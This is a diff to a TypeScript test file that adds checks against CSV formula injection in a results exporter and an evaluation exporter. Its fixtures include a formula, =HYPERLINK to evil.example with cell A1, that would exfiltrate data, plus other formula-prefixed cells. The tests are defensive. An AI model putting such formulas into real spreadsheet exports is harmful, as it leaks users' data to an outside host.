@@ -1,5 +1,7 @@
 import { describe, expect, it } from 'vitest';
+import Papa from 'papaparse';
 import { csvNumber, parseResultsCsv, resultsToCsv, type CsvResults } from '../../src/io/results-csv.ts';
+import { evaluatePlan, evaluationToCsv, parseActualsCsv } from '../../src/lib/evaluation.ts';
 
 const results: CsvResults = {
   years: [2020, 2021, 2022],
@@ -46,5 +48,37 @@ describe('results CSV', () => {
 
   it('refuses rows whose length does not match the years', () => {
     expect(() => resultsToCsv({ years: [2020], rows: [{ id: 'a', labelZh: '', labelEn: '', unit: '', values: [1, 2] }] })).toThrow(RangeError);
+  });
+});
+
+describe('formula injection through a newline (issue 16, item 3)', () => {
+  const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")\n';
+  const cells = [evil, `+1\r\n2`, '-2+3\nx', '@SUM(A1)\n', '\t=1', '＝1+1'];
+
+  it('defuses every formula-like text cell of the results CSV, even one that spans lines', () => {
+    for (const cell of cells) {
+      const csv = resultsToCsv({ years: [2020], rows: [{ id: 'x', labelZh: cell, labelEn: cell, unit: cell, values: [1] }] });
+      const body = csv.slice(1);
+      expect(body.slice(body.indexOf('\r\n') + 2)).toBe(`x,${Array(3).fill(`"'${cell.replace(/"/g, '""')}"`).join(',')},1`);
+      const back = parseResultsCsv(csv);
+      expect([back.rows[0].labelZh, back.rows[0].labelEn, back.rows[0].unit]).toEqual([cell, cell, cell]);
+    }
+  });
+
+  it('defuses labels, units, indicator names and sources of the evaluation CSV, and reads them back', () => {
+    const rows = evaluatePlan(
+      {
+        baseYear: 2020,
+        targets: [{ id: 't', label: evil, expr: 'pop_total', op: '>=', value: 1, year: 2025, every: false, unit: evil, source: evil }],
+        actuals: [{ indicator: evil, value: 2, date: '2023-06', source: evil }],
+      },
+      null,
+    );
+    const csv = evaluationToCsv(rows);
+    const parsed = Papa.parse<string[]>(csv.slice(1)).data;
+    for (const row of parsed.slice(1).filter((r) => r.length > 1)) {
+      for (const cell of row) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r＝]/);
+    }
+    expect(parseActualsCsv(csv).map((a) => [a.indicator, a.source])).toEqual([[evil.trim(), evil.trim()]]);
   });
 });
